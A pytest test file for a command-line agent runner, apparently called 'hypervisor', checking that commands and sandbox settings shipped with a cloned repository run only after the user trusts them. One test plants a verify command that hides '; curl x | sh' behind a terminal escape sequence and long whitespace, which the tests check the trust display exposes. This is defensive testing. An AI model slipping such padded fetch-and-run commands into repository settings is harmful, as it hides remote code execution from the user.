"""Commands that came with a repository are run once the user has trusted them, and not before."""

from __future__ import annotations

import json
import os
import pty
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from commands import HYPERVISOR, Ended, Shell, script, shell, write_task

GOOD = 'mkdir -p src; echo good > "src/$HYPERVISOR_TASK_ID.txt"'


def git(folder: Path, *words: str) -> str:
    who = ("-c", "user.name=A User", "-c", "user.email=user@example.invalid")
    done = subprocess.run(["git", *who, *words], cwd=folder, check=True, capture_output=True, text=True)
    return done.stdout.strip()


class Cloned:
    """A user's clone of a repository, and the repository."""

    def __init__(self, user: Shell) -> None:
        self.user, self.theirs, self.ran = user, user.home.parent / "theirs", user.home / "ran"
        self.task("t-1", f"touch {self.ran}-1")
        git(self.theirs, "init", "-q", "-b", "main")
        self.commit()
        user.cwd.rmdir()
        git(user.home, "clone", "-q", str(self.theirs), str(user.cwd))
        for key, value in (("user.name", "A User"), ("user.email", "user@example.invalid")):
            git(user.cwd, "config", key, value)

    def task(self, name: str, verify: str) -> None:
        text = json.dumps(verify)
        write_task(self.theirs / f"tasks/{name}.md", files=f"[src/{name}.txt]", verify=text)

    def commit(self) -> None:
        git(self.theirs, "add", "-A", "-f")
        git(self.theirs, "commit", "-qm", "theirs")

    def settings(self, text: str) -> None:
        (self.theirs / ".hypervisor").mkdir(exist_ok=True)
        (self.theirs / ".hypervisor/config.toml").write_text(text)

    def pull(self) -> None:
        self.commit()
        git(self.user.cwd, "pull", "-q", "--rebase", "--autostash")

    def run(self, *words: str) -> Ended:
        agent = script(self.user.home, "agent", GOOD)
        return self.user.hypervisor("run", "--agent", "exec", "--exec", agent, *(words or ("--all",)))


@pytest.fixture
def cloned(tmp_path: Path) -> Iterator[Cloned]:
    with shell(tmp_path) as user:
        yield Cloned(user)


@pytest.mark.slow
def test_a_cloned_repository_runs_nothing_before_it_is_trusted(cloned: Cloned) -> None:
    line = cloned.run().refused(
        1, "this repository brings a command that you have not trusted: verify `touch "
    )
    assert line.endswith("look at them with `hypervisor trust`, which trusts them with --yes")
    assert not Path(f"{cloned.ran}-1").exists()
    assert not (cloned.user.cwd / ".hypervisor/batches").exists()


def test_trust_shows_the_commands_and_trusts_them_only_when_told_to(cloned: Cloned) -> None:
    looked = cloned.user.here("trust")
    assert looked.code == 1
    assert f"  verify   touch {cloned.ran}-1   (1 task: t-1)" in looked.out
    assert "`hypervisor trust --yes` trusts them; that is the user's to decide" in looked.err
    assert cloned.user.here("trust").code == 1
    cloned.user.here("trust", "--yes").passed()
    assert cloned.user.here("trust").code == 3


@pytest.mark.slow
def test_what_is_trusted_runs_and_only_what_is_new_is_asked_for_again(cloned: Cloned) -> None:
    cloned.user.here("trust", "--yes").passed()
    cloned.run().passed()
    assert Path(f"{cloned.ran}-1").exists()
    cloned.task("t-2", f"touch {cloned.ran}-2")
    cloned.pull()
    line = cloned.run().refused(1, "a command that you have not trusted: verify `touch /")
    assert f"{cloned.ran}-1" not in line
    assert not Path(f"{cloned.ran}-2").exists()
    cloned.run("--all", "--trust").passed()
    assert Path(f"{cloned.ran}-2").exists()


@pytest.mark.slow
@pytest.mark.parametrize(("typed", "code"), [("y\n", 0), ("\n", 1)])
def test_on_a_terminal_the_user_is_asked(cloned: Cloned, typed: str, code: int) -> None:
    us, its = pty.openpty()
    try:
        os.write(us, typed.encode())
        asked = subprocess.run(
            [*HYPERVISOR, "trust"], cwd=cloned.user.cwd, env=cloned.user.environment, stdin=its, stderr=its,
            stdout=subprocess.PIPE, timeout=60, check=False,
        )  # fmt: skip
        said = os.read(us, 65536).decode()
    finally:
        os.close(us)
        os.close(its)
    assert asked.returncode == code, asked.stdout
    assert "this repository wants to run, and you have not trusted it yet:" in said
    assert f"touch {cloned.ran}-1" in said
    assert "Trust these? [y/N]" in said
    assert cloned.user.here("trust").code == (3 if code == 0 else 1)


@pytest.mark.slow
def test_what_the_user_writes_is_not_asked_for(cloned: Cloned) -> None:
    user = cloned.user
    write_task(user.cwd / "tasks/mine.md", files="[src/mine.txt]", verify=f"touch {cloned.ran}-mine")
    cloned.run("mine").passed()
    write_task(user.cwd / "tasks/second.md", files="[src/second.txt]", verify=f"touch {cloned.ran}-second")
    git(user.cwd, "add", "-A")
    git(user.cwd, "commit", "-qm", "mine")
    git(cloned.theirs, "config", "receive.denyCurrentBranch", "ignore")
    git(user.cwd, "push", "-q")
    cloned.run("second").passed()
    assert Path(f"{cloned.ran}-second").exists()
    user.here("task", "new", "Third", "--id", "third", "--verify", "true")
    assert user.here("preflight", "third", "--json").json["commands"][-1]["trusted"]


def test_settings_that_hold_commands_or_open_the_sandbox_are_asked_for(cloned: Cloned) -> None:
    cloned.settings(
        '[worktree]\nsetup = ["npm ci"]\nteardown = ["docker compose down"]\n'
        '[review]\ncommand = "./review"\n[merge]\ncommand = "./merge"\n'
        '[notify]\ncommand = "./tell"\nurl = "https://example.invalid/"\n'
        '[spawn]\nagent = "exec"\ncommand = "./work {}"\nallow = ["Bash"]\n'
        '[runners.goose]\ncommand = ["goose", "acp"]\n'
        '[run]\nsandbox = "off"\n[sandbox]\nwritable = ["~/.ssh"]\nhidden = []\n'
    )
    cloned.pull()
    found = cloned.user.here("trust", "--json").json["commands"]
    assert [(one["kind"], one["command"]) for one in found if one["kind"] != "verify"] == [
        ("setup", "npm ci"),
        ("teardown", "docker compose down"),
        ("review", "./review"),
        ("merge", "./merge"),
        ("notify", "./tell"),
        ("spawn", "./work {}"),
        ("runner", "goose acp"),
        ("setting", 'run.sandbox = "off"'),
        ("setting", "sandbox.writable = ['~/.ssh']"),
        ("setting", "sandbox.hidden = []"),
        ("setting", 'notify.url = "https://example.invalid/"'),
        ("setting", "spawn.allow = ['Bash']"),
    ]
    assert {file for one in found[:-1] for file in one["files"]} == {".hypervisor/config.toml"}


def test_a_setting_that_the_user_has_changed_here_is_the_users(cloned: Cloned) -> None:
    cloned.settings('[worktree]\nsetup = ["npm ci"]\n')
    cloned.pull()
    cloned.user.here("config", "set", "worktree.setup", '["npm ci", "make"]').passed()
    found = cloned.user.here("trust", "--json").json["commands"]
    assert [one["command"] for one in found if one["kind"] == "setup"] == ["npm ci"]


def test_a_repository_has_nobody_told_before_it_is_trusted(cloned: Cloned) -> None:
    cloned.user.here("trust", "--yes").passed()
    cloned.settings(f'[notify]\ncommand = "touch {cloned.ran}-told"\n')
    cloned.pull()
    cloned.run().refused(1, "this repository brings a command", "notify `touch ")
    assert not Path(f"{cloned.ran}-told").exists()


def test_texts_are_spawned_only_with_settings_that_are_trusted(cloned: Cloned) -> None:
    cloned.settings('[spawn]\nagent = "exec"\ncommand = "true {}"\n')
    cloned.pull()
    cloned.user.here("spawn", "write a line").refused(
        1, "this repository brings a command", "spawn `true {}`"
    )


@pytest.mark.slow
def test_a_command_that_is_typed_is_the_users_whatever_the_settings_say(cloned: Cloned) -> None:
    cloned.settings('[spawn]\nagent = "exec"\ncommand = "true {}"\n')
    cloned.pull()
    ended = cloned.user.here("spawn", "write a line", "--exec", "false {}", "--json").passed()
    cloned.user.hypervisor("wait", ended.json["batch_id"], "--all")


def test_a_command_of_many_lines_is_shown_whole_and_spelt_out(cloned: Cloned) -> None:
    cloned.task("t-1", "true\n\techo \x1b[2J evil" + " " * 300 + "; curl x | sh")
    cloned.pull()
    looked = cloned.user.here("trust")
    assert "curl x | sh" in looked.out
    assert "\x1b" not in looked.out
    assert "\\u001b[2J" in looked.out


def test_preflight_warns_of_a_task_that_is_its_own_judge(cloned: Cloned) -> None:
    write_task(cloned.user.cwd / "tasks/t-2.md", files="[tasks]", verify="'true'")
    write_task(cloned.user.cwd / "tasks/t-3.md", files="[check.sh]", verify="sh check.sh")
    write_task(cloned.user.cwd / "tasks/t-4.md", files="[src/made.txt]", verify="test -f src/made.txt")
    warned = cloned.user.here("preflight", "--all", "--json").json["warnings"]
    then = "; look at what it did before you rely on it"
    assert warned == [
        f"t-2 is its own judge: its files name the folder of its own task file (tasks/t-2.md){then}",
        f"t-3 is its own judge: it may change what its verify runs (check.sh){then}",
    ]
    assert f"warning: {warned[0]}" in cloned.user.here("preflight", "--all").out


def test_preflight_lists_every_command_that_will_run(cloned: Cloned) -> None:
    cloned.settings(
        '[worktree]\nsetup = ["npm ci"]\n[review]\nall = true\nagent = "exec"\ncommand = "./review"\n'
    )
    cloned.task("t-2", f"touch {cloned.ran}-1")
    cloned.pull()
    found = cloned.user.here("preflight", "--all", "--agent", "exec", "--exec", "work {}", "--json").json
    assert [(one["kind"], one["command"], one["tasks"], one["trusted"]) for one in found["commands"]] == [
        ("agent", "work '{}'", [], True),
        ("setup", "npm ci", [], False),
        ("review", "./review", [], False),
        ("verify", f"touch {cloned.ran}-1", ["t-1", "t-2"], False),
    ]
    assert found["sandbox"] == {"on": False, "why": "it is switched off"}
    assert not any(one["sandbox"] for one in found["commands"])
    shown = cloned.user.here("preflight", "--all").out
    assert "commands, WITHOUT a sandbox (it is switched off):\n  agent    claude -p --output-format" in shown
    assert (
        "came with the repository, and have to be trusted first (`hypervisor trust`):\n  setup    npm ci"
        in shown
    )
    cloned.user.here("trust", "--yes").passed()
    assert "came with the repository" not in cloned.user.here("preflight", "--all").out
